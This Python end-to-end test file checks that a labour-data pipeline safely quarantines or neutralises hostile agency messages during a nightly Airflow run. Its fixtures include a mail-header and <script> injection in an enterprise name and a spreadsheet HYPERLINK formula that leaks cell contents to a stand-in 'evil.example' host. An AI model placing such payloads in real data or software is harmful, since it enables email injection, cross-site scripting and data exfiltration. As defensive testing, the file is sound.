"""A hostile night, end to end: agencies (careless or malicious) publish through the real broker, the real
Airflow DAG runs the night (`airflow dags test`), and a second reader goes through every file it wrote.

On top of an ordinary synthetic night the agencies send: enterprise names with CR/LF, a fake mail header
and `<script>`, and a formula-like name (both with unpaid-wage orders, so they reach every alert channel
and the analysts' CSV); an enterprise with a valid all-digit USCC (a pre-2015 organisation code) whose
records are published; `infinity` dates; a naive timestamp; a 2^63 integer; an envelope with duplicate
keys; a message id used on two topics (two messages) and reused with other content (quarantined); an
empty message; a message claiming another agency than its signer; an unsigned one; planted personal
identifiers that inbound validation rejects. The night must complete, quarantine every bad item with its
reason, reconcile consumed = loaded + quarantined per topic, deliver every alert on every channel, write
a safe CSV, and leave neither the pseudonym key nor a raw identifier in any output.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import re
import sqlite3
import subprocess
import sys
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import duckdb
import pytest
from aiosmtpd.controller import Controller
from stdnum.cn import uscc

from core.contracts import default_contracts
from devstack import run_nightly
from devstack.broker import EmbeddedBroker, free_port
from devstack.synthetic import publish_window
from devstack.synthetic.feeds import generate_day
from devstack.synthetic.violations import Rates
from devstack.synthetic.world import build_world
from tests.support import (
    HUNAN_REGION,
    TEST_PSEUDONYM_KEY,
    Inbox,
    Webhook,
    envelope,
    order,
    publish,
    publish_signed_as,
)

DAY = dt.date(2026, 11, 24)
SEED, WORKERS = 11, 150
CRLF_NAME = "湖南速达劳务有限公司\r\nBcc: intruder@example.org\u2028<script>alert('x')</script>\x85"
FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
ALL_DIGIT_USCC = "914403001922038216"  # GB 32100 valid, organisation code 19220382-1 (pre-2015 form)
PLANTED_RIC = "43010219900101123X"  # resident-ID shape, wrong check digit: GX quarantines the ledger row
PLANTED_PHONE = "13912345678"


@dataclass(frozen=True)
class Night:
    data: Path
    airflow_home: Path
    identifiers: frozenset[str]  # every raw resident ID, phone and bank account the agencies sent
    inbox: Inbox
    webhook: Webhook
    registry: dict[str, dict]  # uscc -> registry record of the hostile enterprises
    published: frozenset[str]  # the topics the agencies sent messages to that night (an event feed may be quiet)


def _uscc(body: str) -> str:
    """A USCC with its GB 32100 check character."""
    number = body + uscc.calc_check_digit(body)
    assert uscc.is_valid(number)
    return number


def _registry_record(template: dict, uscc: str, name: str, n: int) -> dict:
    return template | {
        "record_id": f"hostile-{n}:{DAY}",
        "uscc": uscc,
        "name": name,
        "region_code": HUNAN_REGION,
        "snapshot_date": DAY.isoformat(),
    }


def _hostile_feeds(bootstrap: str) -> dict[str, dict]:
    """Publish the hostile messages; returns the registry records of the hostile enterprises."""
    contracts = default_contracts()
    world = build_world(SEED, WORKERS)
    records = generate_day(world, DAY, DAY, Rates(0, 0)).records
    template = records["samr.enterprise.v1"][0]
    registry = {
        "crlf": _registry_record(template, _uscc("91430102MA4L0H0X1"), CRLF_NAME, 1),
        "formula": _registry_record(template, _uscc("91430102MA4L0H0Y1"), FORMULA_NAME, 2),
        "digits": _registry_record(template, ALL_DIGIT_USCC, "深圳老字号运输有限公司", 3),
    }
    samr, orders = contracts["samr.enterprise.v1"], contracts["hrss.inspection_order.v1"]
    wages, complaints = contracts["hrss.wage_payment.v1"], contracts["hrss.complaint_event.v1"]
    service, ledger = contracts["hrss.service_time.v1"], contracts["hrss.employment_ledger.v1"]
    penalties, court = contracts["samr.penalty.v1"], contracts["court.case.v1"]

    def env(contract, mid: str, recs: list, **overrides) -> bytes:
        return envelope(contract, mid, recs, **overrides)

    publish(bootstrap, samr.topic, [env(samr, "hostile-registry", list(registry.values()))])
    publish(
        bootstrap,
        orders.topic,
        [
            env(orders, f"hostile-order-{k}", [order(f"HN-HOSTILE-{k}", r["uscc"], "90000.00")])
            for k, r in registry.items()
        ],
    )
    payment = records["hrss.wage_payment.v1"][0]
    complaint = {
        "event_id": "HOSTILE-C:received",
        "complaint_id": "HOSTILE-C",
        "channel": "hotline_12333",
        "event_type": "received",
        "event_at": "2026-11-24T00:30:00",
        "region_code": HUNAN_REGION,
        "respondent_uscc": registry["crlf"]["uscc"],
        "platform_uscc": None,
        "complainant_id_number": payment["worker_id_number"],
        "category": "wage_arrears",
        "amount_claimed": "5000.00",
        "workers_involved": 1,
        "handling_unit": "芙蓉区劳动保障监察大队",
    }
    shift = records["hrss.service_time.v1"][0]
    worker = records["hrss.employment_ledger.v1"][0]
    publish(
        bootstrap,
        wages.topic,
        [
            env(
                wages,
                "hostile-infinity",
                [
                    payment | {"payment_id": "HOSTILE-INF", "paid_date": "infinity"},
                    payment | {"payment_id": "HOSTILE-NINF", "due_date": "-infinity"},
                    payment | {"payment_id": "HOSTILE-SLASH", "paid_date": "2026/11/30"},
                ],
            )
        ],
    )
    publish(bootstrap, complaints.topic, [env(complaints, "hostile-naive", [complaint])])
    publish(
        bootstrap,
        service.topic,
        [env(service, "hostile-bigint", [shift | {"record_id": "HOSTILE-BIG", "orders": str(2**63)}])],
    )
    publish(
        bootstrap,
        ledger.topic,
        [
            env(
                ledger,
                "hostile-planted",
                [worker | {"ledger_id": "HOSTILE-RIC", "worker_id_number": PLANTED_RIC, "phone": PLANTED_PHONE}],
            )
        ],
    )
    penalty = {
        "penalty_id": "HOSTILE-P1",
        "uscc": registry["digits"]["uscc"],
        "authority": "samr",
        "decision_no": "深市监罚〔2026〕1号",
        "decision_date": "2026-06-01",
        "category": "other",
        "fine_amount": "1000.00",
        "description": None,
    }
    duplicate_keys = env(penalties, "hostile-dupkeys", [penalty | {"penalty_id": "HOSTILE-DUP"}])
    duplicate_keys = duplicate_keys[:-1] + b', "records": []}'  # the last "records" wins in Python, not in DuckDB
    case = {
        "record_id": "HOSTILE-K:filed",
        "case_number": "(2026)湘0102民初9001号",
        "forum": "court_first_instance",
        "respondent_uscc": registry["digits"]["uscc"],
        "claimant_count": 1,
        "cause": "wage_arrears",
        "amount_claimed": "1000.00",
        "amount_awarded": None,
        "filed_date": "2026-11-01",
        "judgment_date": None,
        "judgment_status": "pending",
        "enforcement_status": "none",
        "region_code": HUNAN_REGION,
        "updated_at": "2026-11-02T10:00:00+08:00",
    }
    publish(
        bootstrap,
        penalties.topic,
        [
            env(penalties, "hostile-shared-id", [penalty]),  # the same id on court.case.v1: another message
            env(penalties, "hostile-reused", [penalty | {"penalty_id": "HOSTILE-P2"}]),
            env(penalties, "hostile-reused", [penalty | {"penalty_id": "HOSTILE-P3"}]),  # same id, other content
            b"",
            duplicate_keys,
        ],
    )
    publish(bootstrap, court.topic, [env(court, "hostile-shared-id", [case])])
    # Claims to be the court but is signed with the 人社 key; and a message nobody signed.
    publish_signed_as(
        bootstrap, court.topic, env(court, "hostile-spoofed", [case | {"record_id": "HOSTILE-K:spoof"}]), signer="hrss"
    )
    publish_signed_as(
        bootstrap, court.topic, env(court, "hostile-unsigned", [case | {"record_id": "HOSTILE-K:nosig"}]), signer=None
    )
    return registry


@pytest.fixture(scope="module")
def night(tmp_path_factory) -> Iterator[Night]:
    root = tmp_path_factory.mktemp("hostile")
    data, home = root / "data", root / "airflow"
    inbox, webhook = Inbox(), Webhook()
    smtp = Controller(inbox, hostname="127.0.0.1", port=free_port())
    smtp.start()
    threading.Thread(target=webhook.server.serve_forever, daemon=True).start()
    try:
        with EmbeddedBroker(log_path=root / "tansu.log") as broker, pytest.MonkeyPatch.context() as mp:
            for name, value in {
                "GIGSHIELD_KAFKA_BOOTSTRAP": broker.bootstrap,
                "GIGSHIELD_DATA_DIR": str(data),
                "AIRFLOW_HOME": str(home),
                "GIGSHIELD_SMTP_HOST": "127.0.0.1",
                "GIGSHIELD_SMTP_PORT": str(smtp.port),
                "GIGSHIELD_ALERT_WEBHOOK_URL": webhook.url,
                "GIGSHIELD_ALERT_BACKOFF_SECONDS": "0.1",
            }.items():
                mp.setenv(name, value)
            mp.delenv("GIGSHIELD_WAREHOUSE", raising=False)
            manifest = publish_window(
                end_date=DAY,
                days=1,
                workers=WORKERS,
                seed=SEED,
                bootstrap=broker.bootstrap,
                manifest_path=root / "manifest.json",
            )  # ground truth: not in the data folder
            registry = _hostile_feeds(broker.bootstrap)
            run_nightly.main(["--date", DAY.isoformat(), "--no-publish"])  # raises unless the run succeeded
        world = build_world(SEED, WORKERS)
        workers = {e.worker for e in world.engagements}
        identifiers = {v for w in workers for v in (w.id_number, w.phone, w.bank_account)}
        identifiers |= {e.legal_rep_id for e in world.enterprises} | {PLANTED_RIC, PLANTED_PHONE}
        assert manifest.messages  # the ordinary night was published too
        published = frozenset(topic for topic, messages in manifest.messages.items() if messages)
        yield Night(data, home, frozenset(identifiers), inbox, webhook, registry, published)
    finally:
        smtp.stop()
        webhook.server.shutdown()


def _quarantine(night: Night) -> list[tuple[str, str, str | None, str]]:
    with duckdb.connect(str(night.data / "warehouse.duckdb"), read_only=True) as con:
        return con.execute(
            "SELECT topic, message_id, CAST(record_index AS VARCHAR), reason FROM raw._quarantine"
        ).fetchall()


def _reasons(night: Night, topic: str, message_id_like: str = "%") -> list[str]:
    return [
        reason
        for t, mid, _, reason in _quarantine(night)
        if t == topic and re.fullmatch(message_id_like.replace("%", ".*"), mid)
    ]


@pytest.mark.e2e
@pytest.mark.timeout(1800)
def test_every_bad_item_is_quarantined_with_its_reason(night):
    wages, complaints = "hrss.wage_payment.v1", "hrss.complaint_event.v1"
    assert any("paid_date" in r for r in _reasons(night, wages, "hostile-infinity"))
    assert any("due_date" in r for r in _reasons(night, wages, "hostile-infinity"))
    assert len(_reasons(night, wages, "hostile-infinity")) == 3  # infinity, -infinity, 2026/11/30
    assert any("event_at" in r and "offset" in r for r in _reasons(night, complaints, "hostile-naive"))
    assert any("orders" in r for r in _reasons(night, "hrss.service_time.v1", "hostile-bigint"))
    assert any(
        "worker_id_number" in r or "resident" in r.lower()
        for r in _reasons(night, "hrss.employment_ledger.v1", "hostile-planted")
    )
    penalty_reasons = _reasons(night, "samr.penalty.v1")
    assert any("reused with different content" in r for r in penalty_reasons)
    assert any("empty message" in r for r in penalty_reasons)
    assert any("duplicate" in r.lower() for r in penalty_reasons)
    operator = [json.loads(line) for line in (night.data / "operator_alerts.jsonl").read_text().splitlines()]
    assert [a["topic"] for a in operator if a.get("kind") == "message_id_reused"] == ["samr.penalty.v1"]
    court_reasons = _reasons(night, "court.case.v1")
    assert any("source_agency" in r for r in court_reasons)
    assert any("unsigned" in r for r in court_reasons)
    with duckdb.connect(str(night.data / "warehouse.duckdb"), read_only=True) as con:
        shared = con.execute(
            "SELECT _topic FROM raw.samr__penalty WHERE penalty_id = 'HOSTILE-P1' UNION ALL "
            "SELECT _topic FROM raw.court__case WHERE record_id = 'HOSTILE-K:filed'"
        ).fetchall()
        assert sorted(shared) == [("court.case.v1",), ("samr.penalty.v1",)]  # ids are scoped to their topic


@pytest.mark.e2e
def test_counts_reconcile_per_topic(night):
    with duckdb.connect(str(night.data / "warehouse.duckdb"), read_only=True) as con:
        rows = con.execute("""
            SELECT b.topic, sum(b.records), sum(b.loaded), sum(b.quarantined),
                   (SELECT count(*) FROM raw._quarantine q WHERE q.topic = b.topic)
            FROM raw._batches b GROUP BY b.topic""").fetchall()
        loaded = {
            c.topic: con.execute(f"SELECT count(*) FROM {c.qualified_table}").fetchone()[0]
            for c in default_contracts().values()
        }
    assert night.published <= {r[0] for r in rows} <= set(default_contracts())  # every feed sent was consumed
    for topic, records, batch_loaded, quarantined, quarantine_rows in rows:
        assert records == batch_loaded + quarantined, topic
        assert batch_loaded == loaded[topic] and quarantined == quarantine_rows, topic


@pytest.mark.e2e
def test_every_alert_is_delivered_on_every_channel(night):
    with duckdb.connect(str(night.data / "warehouse.duckdb"), read_only=True) as con:
        deliveries = con.execute("SELECT channel, status, count(*) FROM alerts.deliveries GROUP BY ALL").fetchall()
        hostile = con.execute(
            "SELECT count(*) FROM alerts.alert_revisions WHERE message LIKE '%intruder@example.org%'"
        ).fetchone()[0]
    assert {channel for channel, _, _ in deliveries} == {"kafka", "email", "webhook"}
    assert {status for _, status, _ in deliveries} == {"delivered"}
    assert hostile  # the CR/LF enterprise's alert went out
    subjects = [mail["Subject"] for _, mail in night.inbox.messages]
    assert any("intruder" in s for s in subjects)  # its name is there, on one line
    assert not any(re.search(r"[\r\n\u2028\u0085]", s) for s in subjects)
    assert not any(mail["Bcc"] for _, mail in night.inbox.messages)
    assert len(night.webhook.received) == sum(n for channel, _, n in deliveries if channel == "webhook")


@pytest.mark.e2e
def test_the_analysts_csv_is_safe(night):
    sql = "SELECT enterprise_name, uscc FROM marts.dim_enterprise WHERE uscc IN ({})".format(
        ", ".join(f"'{r['uscc']}'" for r in night.registry.values())
    )
    done = subprocess.run(
        [sys.executable, "-m", "publication.snapshots", "query", sql, "--csv"],
        capture_output=True,
        text=True,
        env=_env(night),
    )
    assert done.returncode == 0, done.stderr[-2000:]
    out = done.stdout
    cells = [cell for row in csv.reader(io.StringIO(out)) for cell in row]
    assert any("HYPERLINK" in cell for cell in cells) and ALL_DIGIT_USCC in cells
    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in cells)


def _env(night: Night) -> dict[str, str]:
    return {**os.environ, "GIGSHIELD_DATA_DIR": str(night.data)}


@pytest.mark.e2e
def test_the_all_digit_uscc_is_published_and_not_mistaken_for_a_bank_account(night):
    published = sorted((night.data / "published").glob(f"*/{DAY}/*.parquet"))
    found = {p.stem for p in published if ALL_DIGIT_USCC in set(_texts_of(p))}
    # the scan passed the night with it in the registry mart and the credit extracts
    assert {"gigshield.dim_enterprise.v1", "gigshield.share.credit_platform.enterprise_credit.v1"} <= found


# --- a second reader of every output -----------------------------------------------------------------

WAREHOUSE_FILES = ("warehouse.duckdb", "warehouse.duckdb.wal")  # raw identifiers live here, at the edge (mode 0600)


def _text(value: object) -> str:
    return value.decode("utf-8", errors="replace") if isinstance(value, bytes) else str(value)


def _texts_of(path: Path) -> Iterator[str]:
    """Every text a file holds, read the way its format needs (compressed columns are decoded)."""
    if path.suffix == ".duckdb":
        with duckdb.connect(str(path), read_only=True) as con:
            columns = con.execute(
                "SELECT database_name, schema_name, table_name, column_name FROM duckdb_columns() WHERE NOT internal"
            ).fetchall()
            for db, schema, table, column in columns:
                yield from (
                    _text(v)
                    for (v,) in con.execute(
                        f'SELECT DISTINCT "{column}" FROM "{db}"."{schema}"."{table}" WHERE "{column}" IS NOT NULL'
                    ).fetchall()
                )
    elif path.suffix == ".parquet":
        with duckdb.connect() as con:
            yield from (
                _text(v) for row in con.execute("SELECT * FROM read_parquet(?)", [str(path)]).fetchall() for v in row
            )
    elif path.suffix in (".db", ".sqlite"):
        con = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
        try:
            for (table,) in con.execute("SELECT name FROM sqlite_master WHERE type = 'table'").fetchall():
                yield from (_text(v) for row in con.execute(f'SELECT * FROM "{table}"') for v in row)
        finally:
            con.close()
    else:
        yield path.read_bytes().decode("utf-8", errors="replace")


@pytest.mark.e2e
def test_no_output_holds_the_pseudonym_key_or_a_raw_identifier(night):
    files = [
        p
        for root in (night.data, night.airflow_home)
        for p in root.rglob("*")
        if p.is_file() and not (p.parent == night.data and p.name in WAREHOUSE_FILES)
    ]
    assert any(p.suffix == ".duckdb" for p in files) and any(p.suffix == ".parquet" for p in files)
    assert any("data_docs" in p.parts for p in files) and any(p.suffix == ".db" for p in files)
    secrets = re.compile("|".join(map(re.escape, sorted(night.identifiers | {TEST_PSEUDONYM_KEY}))))
    leaks = [f"{path}: {found[:3]}…" for path in files for text in _texts_of(path) for found in secrets.findall(text)]
    assert not leaks, leaks[:20]
    # The same reader does find them where they belong: the raw layer of the warehouse.
    raw = {found for text in _texts_of(night.data / "warehouse.duckdb") for found in secrets.findall(text)}
    assert {PLANTED_RIC, PLANTED_PHONE} <= raw and len(raw & night.identifiers) > 100 and TEST_PSEUDONYM_KEY not in raw
    modes = {p.name: p.stat().st_mode & 0o777 for p in (night.data / n for n in WAREHOUSE_FILES) if p.exists()}
    assert modes and all(mode == 0o600 for mode in modes.values()), modes


@pytest.mark.integration  # refused before the DAG starts
def test_the_job_refuses_a_missing_or_development_key_outside_development(tmp_path):
    base = {k: v for k, v in os.environ.items() if k not in ("GIGSHIELD_PSEUDONYM_KEY", "GIGSHIELD_ENV")}
    base["GIGSHIELD_DATA_DIR"] = str(tmp_path)
    for key in (None, "gigshield-development-key", "short-key"):
        env = base | ({"GIGSHIELD_PSEUDONYM_KEY": key} if key else {})
        done = subprocess.run(
            [sys.executable, "-m", "devstack.run_nightly", "--date", DAY.isoformat()],
            env=env,
            capture_output=True,
            text=True,
            timeout=120,
        )
        assert done.returncode != 0 and "GIGSHIELD_PSEUDONYM_KEY" in done.stderr, (key, done.stderr[-500:])
        assert not any(tmp_path.glob("warehouse.duckdb")), key  # refused before touching anything
